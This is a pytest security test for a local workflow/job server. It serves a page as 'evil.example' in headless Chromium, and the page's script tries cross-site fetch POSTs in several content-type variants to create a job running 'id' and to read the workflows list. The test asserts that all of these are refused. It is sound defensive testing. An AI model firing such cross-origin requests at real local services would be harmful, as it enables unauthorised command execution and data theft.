"""A page of another site, in a real browser, must not get in: not even where no token is wanted."""

import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import Queue

import httpx
import pytest
from helpers import ServerProcess

_BROWSER = shutil.which("chromium")
_REPORT_S = 100
_PAGE = """<!doctype html><script>
const url = "%(url)s/jobs", body = JSON.stringify({workflow_id: %(workflow_id)d, name: "x", command: "id"});
const ways = {
  "blob without a type": {mode: "no-cors", body: new Blob([body])},
  "text": {mode: "no-cors", body: new Blob([body], {type: "text/plain"})},
  "form": {mode: "no-cors", body: new Blob([body], {type: "application/x-www-form-urlencoded"})},
  "json": {body: body, headers: {"Content-Type": "application/json"}},
  "with credentials": {mode: "no-cors", credentials: "include", body: new Blob([body])},
};
(async () => {
  const seen = {};
  for (const [name, way] of Object.entries(ways)) {
    try { const answer = await fetch(url, {method: "POST", ...way}); seen[name] = answer.type + answer.status; }
    catch (error) { seen[name] = "refused"; }
  }
  try { seen["reading"] = await (await fetch("%(url)s/workflows")).text(); }
  catch (error) { seen["reading"] = "refused"; }
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"""

pytestmark = pytest.mark.skipif(_BROWSER is None, reason="there is no chromium here: apt-get install chromium")


class ForeignSite:
    """A site that serves one page and hears what its script achieved."""

    def __init__(self) -> None:
        self.page = ""
        self.reports: Queue[dict[str, str]] = Queue()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer(site.page.encode())

            def do_POST(self) -> None:
                site.reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self._answer(b"")

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002
                """Keeps the output of the tests clean."""

            def _answer(self, content: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(content)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def visit(self, folder: Path) -> dict[str, str]:
        """Opens the page in the browser, under a name of another site: what its script achieved."""
        port = self.server.server_address[1]
        options = (
            f"--headless --no-sandbox --disable-gpu --disable-dev-shm-usage --no-first-run --user-data-dir={folder} "
            "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests --remote-debugging-port=0"
        )
        with subprocess.Popen(
            [
                str(_BROWSER),
                *options.split(),
                "--host-resolver-rules=MAP evil.example 127.0.0.1",
                f"http://evil.example:{port}/",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            env={"PATH": os.environ["PATH"], "HOME": str(folder)},
        ) as browser:
            try:
                return self.reports.get(timeout=_REPORT_S)
            finally:
                browser.kill()


@pytest.fixture
def foreign_site() -> Iterator[ForeignSite]:
    site = ForeignSite()
    yield site
    site.server.shutdown()
    site.server.server_close()


@pytest.mark.parametrize("arguments", [["--no-auth"], []], ids=["without authentication", "with its token"])
def test_a_page_of_another_site_can_neither_write_nor_read(
    tmp_path: Path, foreign_site: ForeignSite, arguments: list[str]
) -> None:
    server = ServerProcess(database=tmp_path / "torc.db", arguments=arguments).start()
    try:
        headers = {} if arguments else server.headers
        with httpx.Client(base_url=server.url, headers=headers, trust_env=False) as http:
            workflow_id = http.post("/workflows", json={"name": "w", "user": "u"}).json()["id"]
            foreign_site.page = _PAGE % {"url": server.url, "workflow_id": workflow_id}
            seen = foreign_site.visit(tmp_path / "profile")
            assert seen.pop("reading") == "refused"
            assert seen.keys() == {"blob without a type", "text", "form", "json", "with credentials"}
            assert http.get("/jobs", params={"workflow_id": workflow_id}).json()["items"] == []
        assert "a page of another site" in server.log()
    finally:
        server.stop()
